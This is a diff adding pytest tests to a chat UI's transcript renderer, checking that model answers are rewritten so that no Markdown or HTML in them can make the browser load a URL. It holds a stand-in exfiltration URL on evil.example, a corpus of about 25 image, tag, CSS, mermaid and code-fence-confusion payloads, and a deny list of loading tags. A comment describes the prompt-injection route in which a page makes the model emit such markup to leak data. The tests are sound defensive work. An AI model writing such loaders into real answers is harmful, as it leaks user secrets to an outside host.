@@ -2,10 +2,23 @@
 
 import json
 import re
+from html.parser import HTMLParser
+
+import pytest
+from markdown_it import MarkdownIt
 
 from protocols.events import Done, Error, Metadata, Token, ToolCall, ToolResult, Usage
 from ui.client import ThreadMessage
-from ui.transcript import PREVIEW_CHARS, AnswerRenderer, is_step, render_history, user_turns
+from ui.transcript import (
+    PREVIEW_CHARS,
+    WORD_JOINER,
+    AnswerRenderer,
+    is_step,
+    render_history,
+    safe_markdown,
+    safe_messages,
+    user_turns,
+)
 
 
 class Clock:
@@ -185,3 +198,117 @@ def test_history_from_the_thread_api_renders_like_the_live_answer() -> None:
     assert messages[3]["content"] == "Day 1: Alfama."
     assert user_turns(messages) == ["Trip to Lisbon?", "And Porto?"]
     assert all(m["metadata"]["status"] == "done" for m in messages if is_step(m))
+
+
+# -- nothing in an answer may load anything ------------------------------------------------------------
+
+EXFIL = "http://evil.example/collect?q=SECRET"
+# Everything a page could make the model write to have the browser fetch EXFIL as the answer renders.
+LOADERS = [
+    f"![chart]({EXFIL})",
+    f"![]({EXFIL})",
+    f'![ref][pic]\n\n[pic]: {EXFIL} "title"',
+    f'<img src="{EXFIL}" alt="x">',
+    f"<IMG SRC={EXFIL}>",
+    f'<picture><source srcset="{EXFIL}"><img src="{EXFIL}"></picture>',
+    f'<video src="{EXFIL}" poster="{EXFIL}" autoplay></video>',
+    f'<audio src="{EXFIL}" autoplay></audio>',
+    f'<iframe src="{EXFIL}"></iframe>',
+    f'<link rel="stylesheet" href="{EXFIL}">',
+    f'<div style="background-image: url({EXFIL})">styled</div>',
+    f"<style>body {{ background: url({EXFIL}) }}</style>",
+    f'<svg><image href="{EXFIL}"/></svg>',
+    f'<object data="{EXFIL}"></object><embed src="{EXFIL}">',
+    f'<input type="image" src="{EXFIL}">',
+    f'<table background="{EXFIL}"><tr><td>x</td></tr></table>',
+    f"[![badge]({EXFIL})](https://example.org)",
+    f"```mermaid\nflowchart LR\n  A@{{ img: '{EXFIL}' }}\n```",
+    # Markdown structures where a parser could disagree about what is code.
+    f"- item\n  ```\n ```\n```\n<img src={EXFIL}>\n```",
+    f"> ```\n<img src={EXFIL}>",
+    f"`unclosed <img src={EXFIL}>",
+    f"    indented <img src={EXFIL}>",
+    f"\n\n    <img src={EXFIL}>\n  text",
+    f"$$\n<img src={EXFIL}>\n$$",
+    f"<!-- --><img src={EXFIL}>",
+]
+LOADING_TAGS = {"img", "picture", "source", "video", "audio", "iframe", "link", "style", "svg", "image"}
+LOADING_TAGS |= {"object", "embed", "input", "table", "frame", "track", "script", "body", "meta", "base"}
+
+
+class Elements(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+
+def rendered_elements(markdown: str) -> list[tuple[str, dict[str, str | None]]]:
+    """The elements a CommonMark renderer with raw HTML on (as Gradio's) makes of ``markdown``."""
+    parser = Elements()
+    parser.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown))
+    return parser.found
+
+
+def assert_loads_nothing(markdown: str) -> None:
+    for tag, attrs in rendered_elements(markdown):
+        assert tag not in LOADING_TAGS, (tag, markdown)
+        assert not {"src", "srcset", "poster", "background", "style", "data"} & set(attrs), (tag, markdown)
+    # The context-free rule behind it: no tag opener and no image syntax survive, whatever the context.
+    markup = re.sub(r"</?(b|i|em|strong|sub|sup|s|u|kbd)>|<br\s*/?>|<https?://[^\s<>]*>", "", markdown)
+    assert not re.search(r"<[A-Za-z/!?]", markup) and "![" not in markdown and "```mermaid" not in markdown
+
+
+def test_the_loader_corpus_would_load_without_the_rewrite() -> None:
+    loading = [text for text in LOADERS if any(t in LOADING_TAGS for t, _ in rendered_elements(text))]
+    assert len(loading) >= 15  # the corpus is dangerous as written...
+
+
+@pytest.mark.parametrize("text", LOADERS, ids=range(len(LOADERS)))
+def test_answers_render_with_nothing_that_loads(text: str) -> None:
+    messages: list[dict] = []
+    renderer = AnswerRenderer(messages)
+    for piece in re.findall(r".{1,7}", f"Here you go: {text} done.", flags=re.S):  # split anywhere
+        renderer.apply(Token(text=piece))
+    renderer.apply(Done(thread_id="t", answer="", usage=Usage()))
+    (answer,) = safe_messages(messages)
+    assert_loads_nothing(answer["content"])  # ...and inert once rewritten
+    assert safe_markdown(answer["content"]) == answer["content"]  # idempotent: stored copies stay equal
+
+
+def test_images_become_links_and_html_is_shown_as_text() -> None:
+    answer = safe_markdown(f'See ![the map]({EXFIL}) or <img src="{EXFIL}">. Keep **bold** and a<b.')
+    assert answer == (f'See [image: the map]({EXFIL}) or &lt;img src="{EXFIL}">. Keep **bold** and a&lt;b.')
+    links = [attrs["href"] for tag, attrs in rendered_elements(answer) if tag == "a"]
+    assert links == [EXFIL]  # a link the user may click, not a request the page makes
+    assert [tag for tag, _ in rendered_elements("x <b>y</b><br>z <https://example.org>")] == [
+        "p",
+        "b",
+        "br",
+        "a",
+    ]
+
+
+def test_code_reads_the_same_but_cannot_load() -> None:
+    code = f'```html\n<img src="{EXFIL}">\n![x]({EXFIL})\n```'
+    shown = safe_markdown(f"Example:\n\n{code}\n\nand `<img src=x>` inline.")
+    assert_loads_nothing(shown)
+    assert shown.replace(WORD_JOINER, "") == f"Example:\n\n{code}\n\nand `<img src=x>` inline."
+
+
+def test_tool_steps_and_errors_are_made_inert_too() -> None:
+    messages: list[dict] = []
+    renderer = AnswerRenderer(messages)
+    renderer.apply(ToolCall(id="f", name="fetch_url", args={"url": EXFIL, "note": "<img src=x>"}))
+    renderer.apply(
+        ToolResult(id="f", name="fetch_url", status="ok", content=f"<img src={EXFIL}> ![p]({EXFIL})")
+    )
+    renderer.apply(Error(code="llm_error", message=f"bad page ![p]({EXFIL})"))
+    step, error = safe_messages(messages)
+    assert step["metadata"] == messages[0]["metadata"]
+    for message in (step, error):
+        assert_loads_nothing(message["content"])
+    preview = fenced_blocks(step["content"])[-1][1].replace(WORD_JOINER, "")
+    assert preview == f"<img src={EXFIL}> ![p]({EXFIL})"  # the result preview still reads as sent
